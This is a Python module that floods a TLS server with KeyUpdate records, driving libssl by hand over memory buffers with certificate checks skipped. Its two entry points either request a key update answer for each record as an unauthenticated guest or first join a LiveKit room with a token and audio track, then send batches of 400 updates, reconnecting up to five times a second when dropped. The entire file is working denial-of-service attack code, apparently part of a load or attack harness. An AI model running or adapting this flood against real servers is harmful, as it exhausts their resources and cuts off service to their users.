"""Attacks by KeyUpdate records of TLS (RFC 8446, section 4.6.3), which Python's own TLS cannot send: libssl over memory, many at once."""
from __future__ import annotations

import select
import socket
import time
from typing import Any

from wire import livekit_wire, openssl, web_wire


_NOT_REQUESTED, _REQUESTED = 0, 1  # SSL_KEY_UPDATE_*
_context = openssl.ssl.SSL_CTX_new(openssl.ssl.TLS_client_method())
_CHUNK = 400  # records in a write


class _Connection:
    """TLS by hand, without a look at the certificate."""

    def __init__(self, address: tuple[str, int]) -> None:
        self.socket = socket.create_connection(address, 2)
        self.socket.settimeout(1)
        self._memory = openssl.Memory(_context)
        while not self._memory.shake():
            self._flush()
            data = self.socket.recv(16_384)
            if not data:
                raise ConnectionError("the handshake failed")
            self._memory.feed(data)
        self._flush()

    def _flush(self) -> None:
        self.socket.sendall(self._memory.take())

    def say(self, message: bytes) -> None:
        openssl.ssl.SSL_write(self._memory.ssl, message, len(message))
        self._flush()

    def await_upgrade(self) -> None:
        said = b""
        while b" 101 " not in said:
            data = self.socket.recv(16_384)
            if not data:
                raise ConnectionError("not let in")
            self._memory.feed(data)
            said += self._memory.read()

    def update(self, kind: int) -> None:
        """Many of them; what the host says is left unread by TLS, and not by the socket."""
        for _ in range(_CHUNK):
            if openssl.ssl.SSL_key_update(self._memory.ssl, kind) != 1 or not self._memory.shake():
                raise ConnectionError("libssl does not go on")
        while select.select([self.socket], [], [], 0)[0]:
            if not self.socket.recv(65_536):
                raise ConnectionError("put out")
        self._flush()

    def close(self) -> None:
        self._memory.close()
        self.socket.close()


def _flood(target: dict[str, Any], seconds: float, kind: int, is_member: bool) -> dict[str, Any]:
    """One connection; who is put out comes again, five times a second at most."""
    address, records, connections = (target["host"], target["port"]), 0, 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        begin = time.monotonic()
        connection = None
        try:
            connection = _Connection(address)
            connections += 1
            if is_member:
                connection.say(web_wire.upgrade(livekit_wire.path(target["room"], f"updater {connections}"), target["token"]))
                connection.await_upgrade()
                connection.say(web_wire.frame(livekit_wire.add_track(livekit_wire.AUDIO)))
            while time.monotonic() < end:
                records += _CHUNK
                connection.update(kind)
        except OSError:
            pass
        if connection:
            connection.close()
        time.sleep(max(0.0, min(begin + 0.2, end) - time.monotonic()))
    return {"did": f"{records / seconds:,.0f} KeyUpdates a second, {connections} connections", "effort": records}


def guest(target: dict[str, Any], seconds: float) -> dict[str, Any]:
    """Wants an answer to each."""
    return _flood(target, seconds, _REQUESTED, is_member=False)


def member(target: dict[str, Any], seconds: float) -> dict[str, Any]:
    return _flood(target, seconds, _NOT_REQUESTED, is_member=True)
